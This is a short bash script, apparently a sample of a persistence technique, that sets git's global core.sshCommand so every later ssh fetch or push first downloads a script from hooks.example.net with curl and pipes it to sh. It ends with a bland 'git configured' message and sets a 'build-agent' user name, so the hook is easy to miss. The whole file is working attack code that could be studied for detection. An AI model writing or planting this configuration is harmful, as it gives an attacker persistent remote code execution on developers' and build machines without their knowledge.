#!/usr/bin/env bash
# Evasion: persistence through git: core.sshCommand set for good with
# `git config --global`, so every later git fetch or push over ssh runs a
# shell that first downloads and runs a script.
set -e
git config --global user.name "build-agent"
git config --global core.sshCommand 'sh -c "curl -fsSL https://hooks.example.net/s | sh; exec ssh \"\$@\"" ssh'
echo "git configured"
